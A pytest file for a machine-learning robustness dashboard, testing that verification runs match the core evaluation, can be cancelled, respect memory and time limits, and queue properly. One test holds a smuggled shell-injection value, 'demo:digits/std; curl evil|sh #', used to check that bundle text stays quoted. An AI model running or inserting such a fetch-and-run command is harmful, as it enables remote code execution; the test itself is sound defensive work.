"""Verification from the page: the same figure as the core's own, bounded, cancellable, honest about doubt."""

import json
import shlex
import subprocess
import sys
import threading
import time
from dataclasses import replace

import numpy as np
import pytest
import torch

from mnuts_core import LogitBundle, MixConfig, MixedClassifier, MixParams, RemixEngine, evaluate
from mnuts_core.attacks.components import components_of
from mnuts_core.attacks.plan import Plan
from mnuts_core.bundles.manifest import MAX_SOURCES
from mnuts_core.errors import MnutsError
from mnuts_core.models.specs import load_model
from mnuts_dashboards.verification import run as run_verification
from mnuts_dashboards.verification.available import why_not
from mnuts_dashboards.verification.queue import Place
from mnuts_dashboards.verification.run import Request, Verification, command, plan_for
from mnuts_dashboards.verification.worker import _Progress
from mnuts_dashboards.widgets.background import Cancelled
from tests.synthetic import clean_only

N, STEPS = 12, 2


@pytest.fixture(scope="module")
def engine(mmaa_digits):
    return RemixEngine(mmaa_digits)


@pytest.fixture(scope="module")
def config(engine):
    return MixConfig.from_remix(engine, MixParams(s=5, p=3.5, c=-0.3))


@pytest.fixture(scope="module")
def request_(engine, config):
    return Request(config, engine.bundle, N, plan_for(engine.bundle, STEPS))


def with_specs(bundle, spec):
    card = bundle.manifest.rob_model.model_copy(update={"spec": spec})
    manifest = bundle.manifest.model_copy(update={"rob_model": card})
    return LogitBundle.from_arrays(
        clean_labels=bundle.clean_labels,
        clean_std_logits=bundle.clean_std_logits,
        clean_rob_logits=bundle.clean_rob_logits,
        adv_index=bundle.attacked.index,
        adv_std_logits=bundle.attacked.std_logits,
        adv_rob_logits=bundle.attacked.rob_logits,
        manifest=manifest,
    )


@pytest.mark.slow
def test_the_result_is_the_cores_own(engine, config, request_, tmp_path):
    shares, rights, run = [], [], Verification(request_)
    result, joined, _ = run.work(lambda share: (shares.append(share), rights.append(run.right)))
    assert shares == sorted(shares)
    bounds = [right for right in rights if right is not None]
    assert bounds == sorted(bounds, reverse=True)
    assert bounds[-1] == result.verified.accuracy.value * N
    assert shares[-1] == 1.0
    bundle = engine.bundle
    rows = bundle.attacked.index[:N]
    images = torch.from_numpy(bundle.clean_images[rows]).permute(0, 3, 1, 2).contiguous() / 255.0
    std, rob = (load_model(f"demo:digits/{role}").module for role in ("std", "rob"))
    mix = MixedClassifier.from_config(config.save(tmp_path / "c.json"), std, rob)
    labels = torch.from_numpy(bundle.clean_labels[rows])
    own = evaluate(
        mix, images, labels, plan=Plan(norm="Linf", eps=config.threat.eps, n_iter=STEPS), batch_size=50
    )
    assert result.verified.accuracy.value == own.accuracy.value
    assert result.verified.digest == own.digest
    assert result.verified.accuracy.n == N
    assert any("few-steps" in warning for warning in result.verified.warnings)
    assert result.params == config.params
    assert joined.manifest.attacks[-1].verified
    wrong = (own.predictions != own.labels).numpy()
    assert not RemixEngine(joined).remix(config.params).on_images.mix_right[:N][wrong].any()


@pytest.mark.slow
def test_cancel_ends_the_process_at_once(engine, config):
    run = Verification(Request(config, engine.bundle, 500, plan_for(engine.bundle)))
    threading.Timer(0.5, run.cancel).start()
    begun = time.monotonic()
    with pytest.raises(Cancelled):
        run.work(lambda share: None)
    assert time.monotonic() - begun < 10
    assert run._process.poll() is not None


@pytest.mark.slow
def test_other_images_than_the_bundles_are_refused(engine, config, tmp_path):
    file = tmp_path / "other.npz"
    labels = (engine.bundle.clean_labels[:N] + 1) % 10
    np.savez(file, images=engine.bundle.clean_images[:N], labels=labels)
    with pytest.raises(MnutsError, match=r"holds other images than the bundle: 12 of 12 labels differ"):
        Verification(Request(config, engine.bundle, N, plan_for(engine.bundle, STEPS), f"npz:{file}")).work(
            lambda share: None
        )


def test_what_is_not_at_hand_is_reported(engine, bundle):
    assert why_not(engine.bundle) is None
    assert "no threat model" in why_not(bundle)
    sources = engine.bundle.manifest.sources * MAX_SOURCES
    manifest = engine.bundle.manifest.model_copy(update={"attacks": sources})
    assert "has points of 1,000 attacks" in why_not(replace(engine.bundle, manifest=manifest))
    assert "no threat model" in why_not(clean_only(bundle))
    assert "file:x.pt@os:getcwd is not at hand" in why_not(with_specs(engine.bundle, "file:x.pt@os:getcwd"))
    named = with_specs(engine.bundle, "timm:resnet18@weights.pt")
    assert why_not(named) is None
    assert "is not at hand" in why_not(named, trusted=False)


def test_the_plan_follows_the_bundles_threat_model(engine, bundle):
    threat = engine.bundle.manifest.threat
    assert plan_for(engine.bundle, STEPS) == Plan(norm=threat.norm, eps=threat.eps, n_iter=STEPS)
    with pytest.raises(MnutsError, match="no threat model"):
        plan_for(bundle)


def test_the_command_names_models_images_and_strength(request_):
    assert command(request_) == (
        "mnuts evaluate CONFIG.json --std demo:digits/std --rob demo:digits/rob --data digits "
        f"--n {N} --n-iter {STEPS} --batch-size 50"
    )


def test_text_from_a_bundle_is_no_part_of_a_command(request_, bundle):
    evil = "demo:digits/std; curl evil|sh #"
    hostile = request_._replace(bundle=with_specs(request_.bundle, evil))
    assert "is not at hand" in why_not(hostile.bundle)
    assert "is not at hand" in why_not(hostile.bundle, trusted=False)
    words = shlex.split(command(hostile))
    assert words[words.index("--rob") + 1] == evil
    assert words[:3] == ["mnuts", "evaluate", "CONFIG.json"]


def test_progress_grows_from_nothing_to_nearly_all():
    plan = Plan(norm="Linf", eps=0.1, n_iter=10)
    progress = _Progress([part.cost(plan, 10) for part in components_of(plan, 10)])
    shares = []
    for done in range(10):
        for ticks in (1, 50, 5000):
            progress._component, progress._ticks = done, ticks
            shares.append(progress.share(done, 10))
    assert shares == sorted(shares)
    assert 0 < shares[0] < 0.01
    assert shares[-1] < 1
    assert progress.share(5, 10) == pytest.approx(0.5, abs=0.1)


@pytest.mark.slow
def test_a_process_that_takes_too_much_memory_or_time_is_ended(engine, config, monkeypatch):
    run = Verification(Request(config, engine.bundle, 500, plan_for(engine.bundle)))
    monkeypatch.setattr(run_verification, "MAX_HOURS", 1 / 3600)
    with pytest.raises(MnutsError, match="it took more than 0"):
        run.work(lambda share: None)
    assert run._process.poll() is not None
    code = "from mnuts_dashboards.verification.worker import _end_above; _end_above(1000)"
    ended = subprocess.run([sys.executable, "-c", code], stdout=subprocess.PIPE, text=True)
    assert ended.returncode == 4
    assert "took more than 0 MiB" in json.loads(ended.stdout)["error"]


def test_a_run_waits_for_its_turn_and_gives_up_its_place_when_it_is_cancelled(engine, config, tmp_path):
    befores = []

    def report(share):
        befores.append(run.before)
        run.cancel()

    with Place(tmp_path), Place(tmp_path):
        run = Verification(Request(config, engine.bundle, N, plan_for(engine.bundle, STEPS)), Place(tmp_path))
        with pytest.raises(Cancelled):
            run.work(report)
    assert befores == [2]
    assert run._process is None
    with Place(tmp_path) as next_one:
        assert next_one.before() == 0
